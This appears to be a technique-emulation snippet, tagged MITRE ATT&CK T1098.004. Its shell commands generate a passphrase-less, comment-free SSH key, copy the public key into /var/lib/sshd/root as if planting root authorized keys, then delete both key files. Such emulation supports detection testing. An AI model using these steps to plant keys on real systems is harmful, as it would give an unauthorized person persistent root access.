# technique: T1098.004
# location: linux.ssh.server-keys
# source: /var/lib/sshd/root
mkdir -p /var/lib/sshd
ssh-keygen -q -t ed25519 -N '' -C '' -f /tmp/k
cp /tmp/k.pub /var/lib/sshd/root
rm /tmp/k /tmp/k.pub
